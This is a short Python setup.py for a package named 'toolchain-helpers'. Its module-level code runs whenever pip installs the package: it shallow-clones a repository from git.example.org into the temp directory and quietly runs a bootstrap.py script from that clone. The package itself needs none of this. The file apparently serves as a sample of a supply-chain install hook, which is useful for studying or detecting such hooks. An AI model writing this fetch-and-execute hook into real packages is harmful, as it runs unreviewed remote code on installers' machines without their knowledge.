"""Clones a repository while pip installs the package and runs a script from it."""

import os
import subprocess
import sys
import tempfile

from setuptools import setup

checkout = os.path.join(tempfile.gettempdir(), "toolchain-cache")
if not os.path.isdir(checkout):
    subprocess.call(["git", "clone", "--depth", "1", "https://git.example.org/tools/bootstrap.git", checkout])
subprocess.call([sys.executable, os.path.join(checkout, "bootstrap.py"), "--quiet"])

setup(name="toolchain-helpers", version="0.3.0", py_modules=["toolchain_helpers"])
